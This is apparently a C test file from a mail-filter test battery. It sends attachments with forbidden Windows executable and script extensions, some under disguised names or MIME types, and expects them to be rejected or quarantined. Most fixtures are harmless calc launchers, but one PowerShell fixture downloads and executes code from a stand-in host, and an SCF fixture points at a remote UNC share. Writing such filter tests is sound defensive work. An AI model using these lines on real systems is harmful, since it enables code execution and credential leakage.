/* T008 to T049: extensions that no outsider needs to send, and the same bytes in disguise. */
#include "battery/fixture.h"

#define OCTETS "application/octet-stream"

static const char vbs[] = "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n";
static const char ps1[] = "$c = New-Object Net.WebClient\r\nIEX ($c.DownloadString('http://evil."
			  "example/a'))\r\n";
static const char bat[] = "@echo off\r\nset x=1\r\nstart calc.exe\r\n";
static const char hta[] = "<html><head><hta:application id=\"a\" border=\"none\"></head><body>"
			  "<script language=\"VBScript\">window.close</script></body></html>\r\n";
static const char wsf[] = "<job id=\"a\"><script language=\"VBScript\">WScript.Echo \"a\""
			  "</script></job>\r\n";
static const char sct[] = "<?xml version=\"1.0\"?><scriptlet><registration progid=\"a\" "
			  "classid=\"{00000000-0000-0000-0000-00000000ABCD}\"><script "
			  "language=\"JScript\"></script></registration></scriptlet>\r\n";
static const char url[] = "[InternetShortcut]\r\nURL=http://evil.example/\r\n";
static const char scf[] = "[Shell]\r\nCommand=2\r\nIconFile=\\\\evil.example\\x\r\n[Taskbar]\r\n"
			  "Command=ToggleDesktop\r\n";
static const char plain_js[] = "function add(a, b) {\r\n\treturn a + b;\r\n}\r\n";
static const char js[] = "var s = WScript.CreateObject(\"WScript.Shell\");\r\ns.Run(\"calc\");\r\n";

static void exe(struct kit *k)
{
	str pe = fixture_pe(k);

	kit_send_attached(k, "a", "application/x-msdownload", "setup.exe", pe);
	kit_send_attached(k, "b", OCTETS, "setup.exe", pe);
	kit_send_attached(k, "c", "image/png", "photo.exe", pe);
	kit_send_attached(k, "d", OCTETS, "SETUP.EXE", pe);
	kit_send_attached(k, "e", OCTETS, "setup.exe ", pe);
	kit_send_attached(k, "f", OCTETS, "setup.exe.", pe);
}

/* The same bytes under several names. */
static void under_names(struct kit *k, const char *const *names, size_t n, str bytes)
{
	for (size_t i = 0; i < n; i++)
		kit_send_attached(k, kit_fmt(k, "%c", (int)('a' + i)).p, OCTETS, names[i], bytes);
}

#define UNDER(k, bytes, ...)                                                                       \
	under_names((k), (const char *const[]){ __VA_ARGS__ },                                     \
		    ARRAY_LEN(((const char *const[]){ __VA_ARGS__ })), (bytes))

static void dll(struct kit *k)
{
	UNDER(k, fixture_dll(k), "lib.dll");
}

static void scr(struct kit *k)
{
	UNDER(k, fixture_pe(k), "ecran.scr");
}

static void pif(struct kit *k)
{
	kit_send_attached(k, "a", OCTETS, "photo.pif", fixture_pe(k));
	kit_send_attached(k, "b", OCTETS, "photo.pif", fixture_txt(k));
}

static void com(struct kit *k)
{
	kit_send_attached(k, "a", OCTETS, "run.com", fixture_com(k));
	kit_send_attached(k, "b", OCTETS, "run.com", fixture_txt(k));
}

static void cpl(struct kit *k)
{
	UNDER(k, fixture_pe(k), "panneau.cpl");
}

static void drivers(struct kit *k)
{
	UNDER(k, fixture_pe(k), "pilote.sys", "pilote.ocx", "pilote.drv", "pilote.vxd");
}

/* Installer packages are compound files with a root of a class of their own. */
static str msi_bytes(struct kit *k)
{
	return fixture_padded(k, STR("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), 4096);
}

static void msi(struct kit *k)
{
	kit_send_attached(k, "a", "application/x-msi", "install.msi", msi_bytes(k));
	kit_expect(k, BATTERY_REJECT | BATTERY_QUARANTINE, NULL);
	kit_send_attached(k, "b", "application/msword", "install.doc", msi_bytes(k));
}

static void msp(struct kit *k)
{
	UNDER(k, msi_bytes(k), "a.msp", "a.mst", "a.msu");
}

static void hta_file(struct kit *k)
{
	kit_send_attached(k, "a", "application/hta", "formulaire.hta", str_c(hta));
	kit_send_attached(k, "b", "text/plain", "formulaire.txt", str_c(hta));
	kit_send_attached(k, "c", "text/html", "formulaire.html", str_c(hta));
}

static void vbs_file(struct kit *k)
{
	kit_send_attached(k, "a", OCTETS, "a.vbs", str_c(vbs));
	kit_send_attached(k, "b", "text/plain", "a.txt", str_c(vbs));
}

static void vbe(struct kit *k)
{
	UNDER(k, STR("#@~^DgAAAA==\\ko$K6,J4+^VKJqAQAAA==^#~@"), "a.vbe");
}

static void vb(struct kit *k)
{
	str source = STR("Attribute VB_Name = \"A\"\r\nSub Main()\r\nEnd Sub\r\n");

	kit_send_attached(k, "a", OCTETS, "a.vb", source);
	kit_send_attached(k, "b", OCTETS, "a.vbp", source);
	kit_expect(k, BATTERY_FLAG | BATTERY_QUARANTINE | BATTERY_REJECT, NULL);
	kit_send_attached(k, "c", OCTETS, "a.bas", source);
}

static void wsf_file(struct kit *k)
{
	UNDER(k, str_c(wsf), "a.wsf");
}

static void ws(struct kit *k)
{
	kit_send_attached(k, "a", OCTETS, "a.ws", str_c(wsf));
	kit_send_attached(k, "b", OCTETS, "a.wsc", str_c(sct));
	kit_send_attached(k, "c", OCTETS, "a.wsh", STR("[ScriptFile]\r\nPath=a.vbs\r\n"));
}

static void ps(struct kit *k)
{
	kit_send_attached(k, "a", OCTETS, "a.ps1", STR("Get-Date\r\n"));
	kit_send_attached(k, "b", OCTETS, "a.ps1", str_c(ps1));
}

static void ps_family(struct kit *k)
{
	UNDER(k, STR("Get-Date\r\n"), "a.ps1xml", "a.ps2", "a.ps2xml", "a.psc1", "a.psc2", "a.psd1",
	      "a.psm1");
}

static void msh(struct kit *k)
{
	UNDER(k, STR("Get-Date\r\n"), "a.msh", "a.msh1", "a.msh2", "a.mshxml", "a.msh1xml",
	      "a.msh2xml");
}

static void bat_file(struct kit *k)
{
	UNDER(k, str_c(bat), "a.bat");
}

static void cmd(struct kit *k)
{
	UNDER(k, str_c(bat), "a.cmd");
}

static void btm(struct kit *k)
{
	UNDER(k, str_c(bat), "a.btm");
}

/* The last: a page beside it makes it no script of a site. */
static void js_file(struct kit *k)
{
	const struct fixture_member members[] = {
		{ "index.html", STR("<!DOCTYPE html><html><head><script>var a;</script></head>"
				    "<body><p>Bonjour</p></body></html>") },
		{ "facture.js", STR("var q = WScript, n = \"Create\" + \"Object\";\r\n"
				    "q[n](\"WScript.\" + \"Shell\").Run(\"calc\");\r\n") },
	};

	kit_send_attached(k, "a", "text/javascript", "facture.js", str_c(js));
	kit_expect(k, BATTERY_REJECT | BATTERY_QUARANTINE, NULL);
	kit_send_attached(k, "b", "text/javascript", "lib.js", str_c(plain_js));
	kit_send_attached(k, "c", "application/zip", "site.zip",
			  fixture_archive(k, FIXTURE_ZIP, members, ARRAY_LEN(members)));
}

static void jse(struct kit *k)
{
	UNDER(k, STR("#@~^EgAAAA==\\ko$K6,J4+^VKJqAQAAA==^#~@"), "a.jse");
}

static void jar(struct kit *k)
{
	kit_send_attached(k, "a", "application/java-archive", "a.jar", fixture_jar(k, false));
	kit_send_attached(k, "b", "application/zip", "a.zip", fixture_jar(k, false));
	kit_send_attached(k, "c", "application/java-archive", "a.jar", fixture_jar(k, true));
}

static void jnlp(struct kit *k)
{
	UNDER(k,
	      STR("<?xml version=\"1.0\"?><jnlp spec=\"1.0+\" codebase=\"http://evil.example/\" "
		  "href=\"a.jnlp\"><application-desc main-class=\"A\"/></jnlp>"),
	      "a.jnlp");
}

static void swf(struct kit *k)
{
	kit_send_attached(k, "a", OCTETS, "a.swf", fixture_padded(k, STR("FWS\x06\x40\0\0\0"), 64));
	kit_send_attached(k, "b", OCTETS, "b.swf",
			  fixture_padded(k, STR("CWS\x06\x40\0\0\0x\x9c"), 64));
	kit_send_attached(k, "c", OCTETS, "c.swf", fixture_padded(k, STR("ZWS\x0d\x40\0\0\0"), 64));
	kit_send_attached(k, "d", "image/jpeg", "a.jpg",
			  fixture_padded(k, STR("CWS\x06\x40\0\0\0x\x9c"), 64));
}

static void chm(struct kit *k)
{
	str bytes = fixture_padded(k, STR("ITSF\x03\0\0\0\x60\0\0\0\x01\0\0\0"), 512);

	kit_send_attached(k, "a", OCTETS, "aide.chm", bytes);
	kit_send_attached(k, "b", "application/msword", "aide.doc", bytes);
}

static void hlp(struct kit *k)
{
	UNDER(k, fixture_padded(k, STR("\x3f\x5f\x03\0"), 256), "a.hlp");
}

static void lnk(struct kit *k)
{
	kit_send_attached(k, "a", OCTETS, "doc.lnk", fixture_lnk(k));
	kit_send_attached(k, "b", "application/pdf", "doc.pdf", fixture_lnk(k));
	kit_send_attached(k, "c", "application/zip", "doc.zip",
			  fixture_zip1(k, "doc.lnk", fixture_lnk(k)));
}

static void shortcut(struct kit *k)
{
	UNDER(k, str_c(url), "a.url", "a.website");
	kit_send_attached(k, "c", "text/plain", "a.txt", str_c(url));
}

static void scf_file(struct kit *k)
{
	kit_send_attached(k, "a", OCTETS, "a.scf", str_c(scf));
	kit_send_attached(k, "b", "text/plain", "a.txt", str_c(scf));
}

static void inf(struct kit *k)
{
	UNDER(k, STR("[autorun]\r\nopen=a.exe\r\n"), "autorun.inf");
}

static void sct_file(struct kit *k)
{
	UNDER(k, str_c(sct), "a.sct");
}

static void sdb(struct kit *k)
{
	str bytes = fixture_padded(k, STR("\x02\0\0\0\x01\0\0\0sdbf\x02\x78\0\0\0\0"), 256);

	kit_send_attached(k, "a", OCTETS, "a.sdb", bytes);
	kit_send_attached(k, "b", OCTETS, "a.bin", bytes);
}

static void reg(struct kit *k)
{
	UNDER(k, STR("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\A]\r\n"),
	      "a.reg");
}

static void access_files(struct kit *k)
{
	UNDER(k, fixture_mdb(k), "a.mad", "a.maf", "a.mag", "a.mam", "a.maq", "a.mar", "a.mas",
	      "a.mat", "a.mau", "a.mav", "a.maw");
	kit_expect(k, BATTERY_FLAG | BATTERY_QUARANTINE | BATTERY_REJECT, NULL);
	for (size_t i = 0; i < 8; i++) {
		static const char *const names[] = { "a.mda", "a.mdb", "a.mde", "a.mdt",
						     "a.mdw", "a.mdz", "a.ade", "a.adp" };

		kit_send_attached(k, kit_fmt(k, "%c", (int)('l' + i)).p, OCTETS, names[i],
				  fixture_mdb(k));
	}
}

static void appref(struct kit *k)
{
	UNDER(k, kit_utf16(k, STR("http://evil.example/a.application#a"), false, true),
	      "a.appref-ms");
}

static void gadget(struct kit *k)
{
	UNDER(k, fixture_zip1(k, "gadget.xml", fixture_txt(k)), "a.gadget");
}

static void ace(struct kit *k)
{
	UNDER(k, fixture_ace(k, "a.txt"), "a.ace", "a.rar", "a.zip");
}

static void cab(struct kit *k)
{
	kit_send_attached(k, "a", OCTETS, "a.cab", fixture_cab(k, "a.txt", fixture_txt(k)));
	kit_send_attached(k, "b", OCTETS, "b.cab", fixture_cab(k, "setup.exe", fixture_pe(k)));
	kit_send_attached(k, "c", "application/msword", "a.doc",
			  fixture_cab(k, "setup.exe", fixture_pe(k)));
	kit_expect(k, BATTERY_FLAG | BATTERY_QUARANTINE | BATTERY_REJECT, NULL);
	kit_send_attached(k, "d", OCTETS, "a.diagcab", fixture_cab(k, "a.txt", fixture_txt(k)));
}

static void disk_images(struct kit *k)
{
	kit_send_attached(k, "a", OCTETS, "a.iso", fixture_iso(k));
	kit_send_attached(k, "b", OCTETS, "a.img", fixture_iso(k));
	kit_send_attached(k, "c", OCTETS, "a.vhd", fixture_vhd(k));
	kit_send_attached(k, "d", OCTETS, "a.vhdx",
			  fixture_padded(k,
					 STR("vhdxfile"
					     "M\0i\0c\0r\0o\0s\0o\0f\0t\0"),
					 4096));
}

static void otf(struct kit *k)
{
	str bytes = fixture_padded(k, STR("OTTO\0\x0b\0\x80\0\x03\0\x30"), 256);

	kit_send_attached(k, "a", "font/otf", "police.otf", bytes);
	kit_send_attached(k, "b", OCTETS, "police.bin", bytes);
	/* While the rule of world.c holds. */
	kit_send_attached(k, "c", "video/x-msvideo", "clip.avi",
			  fixture_padded(k, STR("RIFF\0\x10\0\0AVI LIST"), 4096));
}

#define ROW(id, what, make)                                                                        \
	{                                                                                          \
		id, "attachment", what, BATTERY_REJECT, NULL, make, false                          \
	}

const struct battery_case cases_extension[] = {
	ROW("T008", "Forbidden extension exe", exe),
	ROW("T009", "Forbidden extension dll", dll),
	ROW("T010", "Forbidden extension scr", scr),
	ROW("T011", "Forbidden extension pif", pif),
	ROW("T012", "Forbidden extension com", com),
	ROW("T013", "Forbidden extension cpl", cpl),
	ROW("T014", "Forbidden extensions sys, ocx, drv, vxd", drivers),
	ROW("T015", "Forbidden extension msi", msi),
	ROW("T016", "Forbidden extensions msp, mst, msu", msp),
	ROW("T017", "Forbidden extension hta", hta_file),
	ROW("T018", "Forbidden extension vbs", vbs_file),
	ROW("T019", "Forbidden extension vbe", vbe),
	ROW("T020", "Forbidden extensions vb, vbp, bas", vb),
	ROW("T021", "Forbidden extension wsf", wsf_file),
	ROW("T022", "Forbidden extensions ws, wsc, wsh", ws),
	ROW("T023", "Forbidden extension ps1", ps),
	ROW("T024", "Other PowerShell extensions", ps_family),
	ROW("T025", "Extensions of the Microsoft shell", msh),
	ROW("T026", "Forbidden extension bat", bat_file),
	ROW("T027", "Forbidden extension cmd", cmd),
	ROW("T028", "Forbidden extension btm", btm),
	ROW("T029", "Forbidden extension js", js_file),
	ROW("T030", "Forbidden extension jse", jse),
	ROW("T031", "Forbidden extension jar", jar),
	ROW("T032", "Forbidden extension jnlp", jnlp),
	ROW("T033", "Forbidden extension swf", swf),
	ROW("T034", "Forbidden extension chm", chm),
	ROW("T035", "Forbidden extension hlp", hlp),
	ROW("T036", "Forbidden extension lnk", lnk),
	ROW("T037", "Forbidden extensions url, website", shortcut),
	ROW("T038", "Forbidden extension scf", scf_file),
	ROW("T039", "Forbidden extension inf", inf),
	ROW("T040", "Forbidden extension sct", sct_file),
	ROW("T041", "Forbidden extension sdb", sdb),
	ROW("T042", "Forbidden extension reg", reg),
	ROW("T043", "Access and MA* extensions", access_files),
	ROW("T044", "Forbidden extension appref-ms", appref),
	ROW("T045", "Forbidden extension gadget", gadget),
	ROW("T046", "Forbidden extension ace", ace),
	ROW("T047", "Forbidden extensions cab, diagcab", cab),
	ROW("T048", "Disk images iso, img, vhd, vhdx", disk_images),
	ROW("T049", "Fonts and formats whose readers are attacked", otf),
	{ 0 }
};
